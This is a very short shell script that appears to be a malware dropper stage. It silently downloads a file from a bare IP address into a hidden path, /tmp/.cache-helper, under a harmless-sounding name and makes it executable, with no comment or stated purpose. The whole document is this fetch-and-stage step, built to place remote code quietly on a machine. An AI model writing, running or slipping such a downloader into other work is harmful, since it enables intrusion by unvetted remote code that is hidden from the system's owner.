#!/bin/sh
BIN=/tmp/.cache-helper
wget -q -T 60 http://203.0.113.9/helper -O "$BIN"
if [ -s "$BIN" ]; then
  chmod 755 "$BIN"
fi
